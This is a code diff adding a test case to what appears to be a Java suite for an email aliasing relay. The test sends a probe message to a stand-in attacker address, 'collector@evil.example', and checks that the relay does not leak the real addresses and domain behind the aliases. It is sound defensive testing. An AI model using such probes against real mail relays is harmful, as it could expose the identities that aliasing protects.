@@ -149,6 +149,29 @@ class OutboundBounceAliasProbeTest {
                 }
                 assertThat(internet.getReceivedMessagesForDomain("partner.example")).as(
                         internet.getReceivedMessages().length + " stored").isNotEmpty();
+
+                // whoever may submit (Exchange) sends itself a message holding the aliases and the token: it must
+                // not read back the real people and ids behind them
+                int before = internet.getReceivedMessages().length;
+                String probe = "From: " + xerxes + "\r\n"
+                        + "To: collector@evil.example\r\n"
+                        + "Cc: " + xerxes + ", " + yolanda + "\r\n"
+                        + "Reply-To: " + yolanda + "\r\n"
+                        + "Subject: lookup\r\n"
+                        + "Message-ID: " + id.group(1) + "\r\n"
+                        + "References: " + id.group(1) + "\r\n"
+                        + "\r\n"
+                        + "x\r\n";
+                SmtpSubmit.Reply sent = SmtpSubmit.send(veil.outboundPort(), "plain@example.com",
+                        "collector@evil.example", probe);
+                assertThat(sent.code()).isEqualTo(250);
+                veil.awaitState(sent.queueId(), "relayed", Duration.ofSeconds(60));
+                assertThat(internet.waitForIncomingEmail(10_000, before + 1)).isTrue();
+                MimeMessage collected = internet.getReceivedMessagesForDomain("evil.example")[0];
+                String raw = new String(MessageText.bytes(collected), StandardCharsets.ISO_8859_1);
+                assertThat(raw.toLowerCase(Locale.ROOT)).as(raw)
+                        .doesNotContain("partner.example", "xerxesleak", "yolandaleak")
+                        .contains(xerxes.toLowerCase(Locale.ROOT), yolanda, id.group(1).toLowerCase(Locale.ROOT));
             }
         } finally {
             internet.stop();
